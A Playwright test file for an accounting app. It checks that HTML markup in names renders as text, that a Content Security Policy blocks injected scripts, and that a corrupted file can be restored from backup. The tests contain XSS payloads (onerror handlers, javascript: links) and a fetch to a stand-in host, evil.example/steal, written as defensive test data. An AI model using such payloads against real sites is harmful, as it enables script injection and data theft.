// What was typed stays text, nothing foreign runs in the page, and a damaged file comes back from the first page.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openEngine } from '../../db/engine.ts';
import { setUpInput } from '../../db/seed/setUp.ts';
import { expect, test } from './fixture.ts';

const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';

async function companyWithMarkup(folder: string): Promise<string> {
  const path = join(folder, 'markup.ledgerdock');
  const engine = await openEngine(path, { create: true });
  const country = { country: 'GB', baseCurrency: 'GBP', language: 'en', chartTemplate: 'international' } as const;
  await engine.call('company.setUp', setUpInput({ name: MARKUP, ...country }));
  await engine.call('customer.create', { code: 'M', name: MARKUP });
  await engine.close();
  return path;
}

test('markup in names is text, and a script put into the page does not run', async ({ chromium, server }) => {
  const folder = mkdtempSync(join(tmpdir(), 'ledgerdock-safety-'));
  const app = await server.serve({ company: await companyWithMarkup(folder) });
  const page = await chromium.newPage();
  const blocked: string[] = [];
  page.on('console', (message) => blocked.push(message.text()));
  await page.goto(app.address);
  await expect(page.locator('.company')).toHaveText(MARKUP);
  await page.evaluate(() => {
    window.location.hash = '/customers';
  });
  await expect(page.getByText(MARKUP).last()).toBeVisible();
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 1';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const picture = document.createElement('div');
    picture.innerHTML = '<img src="x" onerror="window.ran = 1"><a href="javascript:window.ran=1" id="trap">x</a>';
    document.body.append(inline, foreign, picture);
    document.getElementById('trap')?.click();
  });
  await page.evaluate(() => fetch('https://evil.example/steal?x=1').catch(() => undefined));
  await expect.poll(() => blocked.filter((text) => /Content Security Policy/i.test(text)).length).toBeGreaterThan(2);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  await page.close();
  await app.stop();
  rmSync(folder, { recursive: true, force: true });
});

test('a backup is made in Setup, and brings a damaged file back from the first page', async ({ open }) => {
  const folder = mkdtempSync(join(tmpdir(), 'ledgerdock-safety-'));
  const path = await companyWithMarkup(folder);
  const { desk, page } = await open({ company: path });
  await desk.goTo('/setup?view=backups');
  await page.getByRole('button', { name: desk.t('backup.now') }).click();
  const restore = page.getByRole('button', { name: new RegExp(`^${desk.t('backup.restore')} `) });
  await expect(restore).toHaveCount(1);
  await page.getByRole('button', { name: desk.t('app.otherCompany') }).click();
  const whole = readFileSync(path);
  writeFileSync(path, Buffer.concat([whole.subarray(0, 4096), Buffer.alloc(whole.length - 4096, 9)]));
  await desk.field(desk.t('welcome.path')).fill(path);
  await desk.press('Enter');
  await expect(page.getByRole('main').getByRole('alert')).toContainText('markup.ledgerdock');
  await restore.click();
  await page
    .getByRole('dialog')
    .getByRole('button', { name: desk.t('backup.restore') })
    .click();
  await expect(page.locator('.company')).toHaveText(MARKUP);
  rmSync(folder, { recursive: true, force: true });
});
